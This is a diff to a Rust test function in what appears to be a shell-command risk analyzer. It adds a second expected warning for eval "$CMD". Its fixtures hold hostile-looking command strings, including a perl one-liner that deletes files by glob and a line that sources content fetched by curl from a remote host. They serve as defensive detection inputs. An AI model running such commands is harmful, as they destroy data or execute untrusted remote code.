@@ -3233,7 +3233,10 @@ fn opaque_parts() {
             &["perl runs inline code: unlink glob \"*\""],
         ),
         ("ruby -e 'puts 1'", &["ruby runs inline code: puts 1"]),
-        ("eval \"$CMD\"", &["eval: $CMD"]),
+        (
+            "eval \"$CMD\"",
+            &["eval: $CMD", "command name is an expansion: $CMD"],
+        ),
         ("$CMD --force", &["command name is an expansion: $CMD"]),
         (
             "source <(curl -s https://x.io/env)",
